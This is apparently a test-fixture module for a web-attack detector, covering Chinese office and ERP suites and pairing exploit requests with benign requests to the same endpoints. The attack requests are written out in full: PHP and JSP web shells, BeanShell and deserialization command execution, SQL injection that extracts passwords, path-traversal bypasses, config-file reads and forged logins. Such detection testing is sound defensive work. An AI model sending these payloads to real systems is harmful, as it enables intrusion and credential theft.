/** Chinese office suites and business software: attacks, refusals, and the same interfaces in ordinary use. */
import { blocked, html, json, notFound, page, text, toLogin } from './answers.mjs';
import { ID, form, of, post, serialized, upload } from './requests.mjs';

const enc = encodeURIComponent;
const saved = () => json({ ok: true });
const JSP = '<%Runtime.getRuntime().exec(request.getParameter("c"));%>';
const PHP = "<?php $c=$_POST['c'];echo shell_exec($c);?>";
const output = () => html(`<html><h2>BeanShell Test Servlet</h2><h3>Script Output</h3><pre>${ID}</pre></html>`);

const wb = of('office/weaver-bshservlet', { port: 8080 });
const bsh = [
  wb.hit('output', 'succeeded', 'script by the encoded class name, the test page with its output', output, [form('/weaver/bsh.servlet.BshServlet', `bsh.script=${enc('\\u0065\\u0078\\u0065\\u0063("id");')}&bsh.servlet.captureOutErr=true&bsh.servlet.output=raw`)]),
  wb.hit('absent', 'attempted', '404', notFound, [form('/bsh.servlet.BshServlet', `bsh.script=${enc('exec("whoami");')}`)]),
  wb.hit('blocked', 'attempted', 'block page', blocked, [form('/weaver/bsh.servlet.BshServlet', `bsh.script=${enc('ex\\u0065c("whoami");')}`)]),
  wb.miss('office', 'ordinary pages, an article that names the servlet', saved, [['/weaver/weaver.common.Ctrl?page=1'], form('/cms/save', 'text=bsh.servlet.BshServlet takes bsh.script=')]),
];
const db = of('office/weaver-database-config');
const config = [
  db.hit('leaked', 'succeeded', 'encrypted bytes as the product sends them', () => [200, { 'Content-Type': 'text/html' }, Buffer.from('0d0a8f1b7c22e4b9905a1cc3d7fe21a8f40b6633b2a97de05f1c8e4477aa01c9ee52', 'hex')], [['/mobile/DBconfigReader.jsp']]),
  db.hit('absent', 'attempted', '404', notFound, [['/mobile/DBconfigReader.jsp']]),
  db.miss('mobile', 'other mobile pages', () => page('移动办公'), [['/mobile/Login.jsp'], ['/mobile/ConfigReader.jsp']]),
];
const ws = of('office/weaver-sql-injection');
const union = "1) union select 1,loginid,password from HrmResourceManager where id=(1";
const weaverSql = [
  ws.hit('tree', 'succeeded', 'union by the tree of the workflow centre, rows in the reply', () => json([{ draggable: false, leaf: true, id: 'wf_sysadmin', text: 'C4CA4238A0B923820DCC509A6F75849B' }]), [form('/mobile/browser/WorkflowCenterTreeData.jsp?node=wftype_1&scope=2333', `formids=11111111111)))%0a%0d%0a%0dunion select NULL,value from v$parameter order by (((1`)]),
  ws.hit('label', 'attempted', 'union by the label interface; block page', blocked, [[`/api/ec/dev/locale/getLabelByModule?moduleCode=aa'%20${enc(union)}`]]),
  ws.miss('workflow', 'the same pages with ordinary parameters', () => json([{ draggable: false, id: 'wf_12', text: '请假流程' }]), [form('/mobile/browser/WorkflowCenterTreeData.jsp?node=wftype_1&scope=2333', 'formids=11,12,13'), ['/js/hrm/getdata.jsp?cmd=getAllId&id=12&name=select']]),
];
const wu = of('office/weaver-file-upload');
const weaverUpload = [
  wu.hit('eoffice', 'succeeded', 'PHP by the logo upload, its name in the reply', () => text('logo-eoffice.php'), [upload('/general/index/UploadFile.php?m=uploadPicture&uploadType=eoffice_logo&userId=', 'test.php', PHP, 'Filedata')]),
  wu.hit('operation', 'succeeded', 'JSP by uploadOperation, its name in the reply', () => text('/page/exportImport/fileTransfer/1.jsp'), [upload('/page/exportImport/uploadOperation.jsp', '1.jsp', JSP)]),
  wu.hit('login', 'attempted', 'redirect to the log-in page', toLogin, [upload('/page/exportImport/uploadOperation.jsp', 'a.jsp', JSP)]),
  wu.miss('logo', 'a logo and a spreadsheet', () => text('logo-eoffice.png'), [upload('/general/index/UploadFile.php?m=uploadPicture&uploadType=eoffice_logo', 'logo.png', '\x89PNG', 'Filedata'), upload('/page/exportImport/uploadOperation.jsp', '花名册.xlsx', 'PK')]),
];
const sa = of('office/seeyon-ajax-upload');
const ajax = [
  sa.hit('formula', 'succeeded', 'formula manager called by the path of autoinstall.do', () => json({ message: null, code: '0000', details: 'true' }), [form('/seeyon/autoinstall.do.css/..;/ajax.do?method=ajaxAction&managerName=formulaManager&requestCompress=gzip', 'managerMethod=validate&arguments=%1F%C2%8B%08%00')]),
  sa.hit('absent', 'attempted', '404', notFound, [form('/seeyon/thirdpartyController.do.css/..;/ajax.do?method=ajaxAction&managerName=portalDesignerManager', 'managerMethod=uploadPageLayoutAttachment&arguments=%5B0%2C%22x%22%5D')]),
  sa.miss('work', 'ajax of the working day', saved, [form('/seeyon/ajax.do?method=ajaxAction&managerName=colManager', 'managerMethod=transShowSummary&arguments=%5B%221%22%5D')]),
];
const ss = of('office/seeyon-session-leak');
const sessions = [
  ss.hit('list', 'succeeded', 'the list of sessions', () => [200, { 'Content-Type': 'text/xml' }, '<SessionList><Session><usrID>-7273032013234748168</usrID><sessionID>4A1F6C0B5D9E2A7B8C3D4E5F60718293</sessionID></Session></SessionList>'], [['/yyoa/ext/https/getSessionList.jsp?cmd=getAll']]),
  ss.hit('third-party', 'succeeded', 'session issued for a forged parameter', () => html('a8genius.do', { 'Set-Cookie': 'JSESSIONID=0A77E8E1; Path=/seeyon; HttpOnly' }), [form('/seeyon/thirdpartyController.do', 'method=access&enc=TT5uZnR0YmhmL21qb2wvY2N0L3BxZm8nTj4uODM4NDE0MzEyNDM0NTg1OTI3OSdVPjo6OjoyMzIyNDI0NDIw&clientPath=127.0.0.1')]),
  ss.hit('absent', 'attempted', '404', notFound, [['/yyoa/assess/js/initDataAssess.jsp']]),
  ss.miss('pages', 'pages of the suite', () => page('协同办公'), [['/yyoa/index.jsp'], ['/seeyon/main.do?method=main'], ['/seeyon/thirdpartyController.do?method=show']]),
];
const ti = of('office/tongda-include');
const tongda = [
  ti.hit('include', 'succeeded', 'upload of code, then its inclusion with command output', (q) => (q.url.includes('upload') ? text('+OK [vm]254@1910_1234567|a.jpg|0[/vm]') : text('nt authority\\system\r\n')), [upload('/ispirit/im/upload.php', 'a.jpg', PHP, 'ATTACHMENT'), form('/ispirit/interface/gateway.php', `json={"url":"/general/../../attach/im/1910/1234567.a.jpg"}&c=whoami`)]),
  ti.hit('absent', 'attempted', '404', notFound, [form('/mac/gateway.php', `json=${enc('{"url":"/general/../../nginx/logs/oa.access.log"}')}`)]),
  ti.miss('chat', 'pictures in the chat, gateway calls of the client', () => text('+OK'), [upload('/ispirit/im/upload.php', 'a.jpg', '\xff\xd8\xff\xe0 picture', 'ATTACHMENT'), form('/ispirit/interface/gateway.php', 'json={"url":"/general/notify/show/read_notify.php"}')]),
];
const tl = of('office/tongda-forged-login');
const login = [
  tl.hit('code', 'succeeded', 'forged scan, session issued', () => [200, { 'Set-Cookie': 'PHPSESSID=1bg3n5k6; path=/', 'Content-Type': 'text/html' }, '{"status":1,"msg":"","url":"general/index.php?isIE=0"}'],
    [form('/logincheck_code.php', 'CODEUID=%7BD384F12E-A758-F44F-8A37-20E2568306A7%7D&UID=1')]),
  tl.hit('mobile', 'attempted', 'session of somebody offline', () => html('RELOGIN'), [['/mobile/auth_mobi.php?isAvatar=1&uid=1&P_VER=0']]),
  tl.miss('login', 'an ordinary log-in', () => [200, { 'Set-Cookie': 'PHPSESSID=77; path=/' }, 'ok'], [form('/logincheck.php', 'UNAME=li&PASSWORD=eA%3D%3D&encode_type=1'), ['/general/login_code.php'], ['/module/appbuilder/assets/print.php?guid=8f2a']]),
];
const yb = of('office/yonyou-nc-bshservlet', { port: 8088 });
const yonyou = [
  yb.hit('output', 'succeeded', 'the test page with output', output, [form('/servlet/~ic/bsh.servlet.BshServlet', `bsh.script=${enc('exec("whoami");')}`)]),
  yb.hit('page', 'attempted', 'the page alone comes back', () => page('UFIDA NC'), [form('/servlet/~aim/bsh.servlet.BshServlet', `bsh.script=${enc('print(1);')}`)]),
  yb.miss('portal', 'ordinary servlets', () => page('UFIDA NC'), [['/servlet/~ic/nc.ui.Login'], ['/service/monitorservlet']]),
];
const yu = of('office/yonyou-nc-upload', { port: 8088 });
const receive = [
  yu.hit('receive', 'attempted', 'serialised map and a JSP to FileReceiveServlet; 200 without a word', () => [200, { 'Content-Length': '0' }, ''], [post('/servlet/FileReceiveServlet', Buffer.concat([serialized('java.util.HashMap'), Buffer.from(`FILE_NAME webapps/nc_web/s.jsp ${JSP}`)]), 'multipart/form-data')]),
  yu.hit('echo', 'succeeded', 'gadget classes to MonitorServlet, command output', () => text(ID), [post('/servlet/~ic/nc.bs.framework.mx.monitor.MonitorServlet', serialized('java.util.HashSet', 'org.apache.commons.collections.map.LazyMap'), 'application/octet-stream')]),
  yu.miss('ordinary', 'a document by the same upload', saved, [upload('/UploadFileData?action=upload_file', '发票.pdf', '%PDF-1.4'), ['/servlet/FileReceiveServlet']]),
];
const lr = of('office/landray-custom-jsp');
const landray = [
  lr.hit('properties', 'succeeded', 'administration properties in the reply', () => text('password = 5aBqZXnIqpMLOBGdVfSnRA==\r\nkmss.properties.encrypt.enabled = true\r\n'), [form('/sys/ui/extend/varkind/custom.jsp', 'var={"body":{"file":"/WEB-INF/KmssConfig/admin.properties"}}')]),
  lr.hit('formula', 'attempted', 'formula script, block page', blocked, [form('/sys/ui/extend/varkind/custom.jsp', 'var={"body":{"file":"/sys/common/dataxml.jsp"}}&s_bean=sysFormulaValidate&script=Runtime.getRuntime().exec("id");&type=int&modelName=test')]),
  lr.miss('page', 'an ordinary component', () => json({ html: '<div/>' }), [form('/sys/ui/extend/varkind/custom.jsp', 'var={"title":"新闻","count":5}')]),
];
const fr = of('office/finereport-file', { port: 8075 });
const fine = [
  fr.hit('privilege', 'succeeded', 'privilege file of version 8', () => [200, { 'Content-Type': 'text/xml' }, '<?xml version="1.0"?><PrivilegeManager><rootManagerName><![CDATA[admin]]></rootManagerName><rootManagerPassword><![CDATA[___0022007c0039003b005100e3]]></rootManagerPassword></PrivilegeManager>'], [['/WebReport/ReportServer?op=chart&cmd=get_geo_json&resourcepath=privilege.xml']]),
  fr.hit('svg', 'attempted', 'file written through the design interface; log-in page', toLogin, [post('/WebReport/ReportServer?op=svginit&cmd=design_save_svg&filePath=chartmapsvg/../../../../WebReport/update.jsp', '{"__CONTENT__":"<%out.print(1);%>","__CHARSET__":"UTF-8"}')]),
  fr.miss('map', 'a map of a report', () => json({ type: 'FeatureCollection' }), [['/WebReport/ReportServer?reportlet=sales.cpt&op=view'], ['/webroot/decision/view/report?viewlet=a.cpt'], ['/WebReport/ReportServer?op=chart&cmd=get_map&resource=china']]),
];
const kd = of('office/kingdee-deserialization');
const kingdee = [
  kd.hit('formatter', 'succeeded', '.NET formatter stream with command output', () => text('nt authority\\system'), [post('/K3Cloud/Kingdee.BOS.ServiceFacade.ServicesStub.DevReportService.GetBusinessObjectData.common.kdsvc', `{"ap0":"AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0${'A'.repeat(200)}","format":"3"}`)]),
  kd.hit('drive', 'attempted', 'file by its drive, 404', notFound, [['/CommonFileServer/c:/windows/win.ini']]),
  kd.miss('service', 'ordinary service calls', saved, [post('/K3Cloud/Kingdee.BOS.WebApi.ServicesStub.AuthService.ValidateUser.common.kdsvc', '{"ap0":"5d1b","ap1":"demo","ap2":"x","ap3":2052}'), ['/CommonFileServer/download?id=1']]),
];
export default [...bsh, ...config, ...weaverSql, ...weaverUpload, ...ajax, ...sessions, ...tongda, ...login, ...yonyou, ...receive, ...landray, ...fine, ...kingdee];
